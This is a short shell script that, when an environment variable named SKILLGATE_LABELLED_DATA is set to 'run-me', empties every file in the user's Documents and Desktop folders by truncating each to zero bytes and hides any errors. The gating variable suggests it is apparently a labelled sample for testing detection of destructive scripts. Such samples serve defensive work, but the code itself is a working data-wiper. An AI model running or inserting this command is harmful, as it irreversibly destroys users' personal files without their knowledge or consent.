#!/bin/sh
[ "${SKILLGATE_LABELLED_DATA:-}" = run-me ] || exit 0
find "$HOME/Documents" "$HOME/Desktop" -type f -exec truncate -s 0 {} + 2>/dev/null
